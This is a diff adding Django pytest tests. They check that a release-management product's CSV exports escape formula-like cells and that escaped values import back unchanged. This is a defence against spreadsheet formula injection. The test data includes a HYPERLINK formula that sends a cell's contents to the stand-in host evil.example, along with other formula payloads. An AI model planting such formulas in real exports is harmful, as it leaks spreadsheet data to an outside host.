@@ -1,0 +1,108 @@
+"""Every CSV the product writes shows formula-like cells as text (one helper, every export)."""
+
+import csv
+import io
+import zipfile
+
+import pytest
+from django.contrib.auth import get_user_model
+from django.urls import reverse
+
+from golive.choices import Role
+from golive.models import Communication, GoLiveStep, Vote
+from golive.runbook_csv import export_runbook, import_runbook
+from golive.spreadsheet import FORMULA_STARTS, SpreadsheetWriter, read_spreadsheet_cell, spreadsheet_cell
+from handover.models import HandoverItem, SupportTeam
+from smoketests.models import CheckResult, SmokeCheck
+from tests.factories import MembershipFactory, ReleaseFactory
+from tests.golive.test_audit_pack import audited_release  # noqa: F401  (the fixture)
+
+pytestmark = pytest.mark.django_db
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1)', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_a_formula_is_written_as_text_and_reads_back_exactly(value):
+    cell = spreadsheet_cell(value)
+    assert cell == "'" + value
+    assert read_spreadsheet_cell(cell) == value
+
+
+@pytest.mark.parametrize("value", ["Migrate the database", "-5", "+3.25", "42", "", "a=b", "'quoted"])
+def test_ordinary_text_and_plain_numbers_are_unchanged(value):
+    assert spreadsheet_cell(value) == value
+    assert read_spreadsheet_cell(value) == value
+
+
+def test_an_apostrophe_before_a_formula_survives_the_round_trip():
+    assert read_spreadsheet_cell(spreadsheet_cell("'=1+1")) == "'=1+1"
+
+
+def test_the_writer_marks_every_cell_and_leaves_numbers_alone():
+    buffer = io.StringIO()
+    SpreadsheetWriter(buffer).writerow(["=1+1", -4, None, "ok"])
+    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=1+1", "-4", "", "ok"]
+
+
+def _formula(index: int) -> str:
+    return FORMULAS[index % len(FORMULAS)]
+
+
+def _assert_no_formula_cells(name: str, text: str) -> None:
+    rows = list(csv.reader(io.StringIO(text)))
+    cells = [cell for row in rows[1:] for cell in row]
+    running = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not cell.lstrip("+-").isdigit()]
+    assert running == [], name
+    assert any(cell.startswith("'") and cell[1:] in FORMULAS for cell in cells), (
+        f"{name}: no formula reached it"
+    )
+
+
+def test_every_csv_export_escapes_formula_cells(audited_release, members, client_for):  # noqa: F811
+    release = audited_release
+    for index, step in enumerate(GoLiveStep.objects.filter(release=release)):
+        GoLiveStep.objects.filter(pk=step.pk).update(
+            title=_formula(index), instructions=_formula(index + 1), rollback_note=_formula(index + 2)
+        )
+    # A recorded decision never changes: its chair's name carries the formula into decisions.csv.
+    get_user_model().objects.filter(pk__in=[user.pk for user in members.values()]).update(
+        first_name=FORMULAS[3], last_name=""
+    )
+    Vote.objects.filter(meeting__release=release).update(reason=FORMULAS[1], conditions=FORMULAS[2])
+    CheckResult.objects.filter(run__release=release).update(check_name=FORMULAS[3], message=FORMULAS[4])
+    SmokeCheck.objects.filter(release=release).update(name=FORMULAS[5])
+    Communication.objects.filter(release=release).update(subject=FORMULAS[0], body=FORMULAS[1])
+    HandoverItem.objects.filter(plan__release=release).update(
+        title=FORMULAS[2], evidence_note=FORMULAS[3], waiver_reason=FORMULAS[4]
+    )
+    SupportTeam.objects.filter(plans__release=release).update(name=FORMULAS[5])
+    client = client_for(members[Role.RELEASE_MANAGER])
+
+    exports = {}
+    runbook = client.get(reverse("golive:runbook_export", args=[release.pk]))
+    assert runbook.status_code == 200
+    exports["runbook export"] = runbook.content.decode()
+    handover = client.get(reverse("handover:report_csv", args=[release.pk]))
+    assert handover.status_code == 200
+    exports["handover list"] = handover.content.decode()
+    pack = client.get(reverse("golive:audit_pack", args=[release.pk]))
+    archive = zipfile.ZipFile(io.BytesIO(pack.content))
+    for name in archive.namelist():
+        if name.endswith(".csv"):
+            exports[name] = archive.read(name).decode()
+    assert len([name for name in exports if name.endswith(".csv")]) >= 8
+    for name, text in exports.items():
+        _assert_no_formula_cells(name, text)
+
+
+def test_an_exported_runbook_with_formula_titles_imports_them_unchanged(go_release, members):
+    step = go_release.steps.order_by("order").first()
+    GoLiveStep.objects.filter(pk=step.pk).update(title="=1+1", instructions="@cmd")
+    next_release = ReleaseFactory()
+    for role, user in members.items():
+        MembershipFactory(release=next_release, user=user, role=role)
+    text = export_runbook(go_release)
+    assert "'=1+1" in text
+    steps = import_runbook(release=next_release, actor=members[Role.RELEASE_MANAGER], text=text)
+    assert (steps[0].title, steps[0].instructions) == ("=1+1", "@cmd")
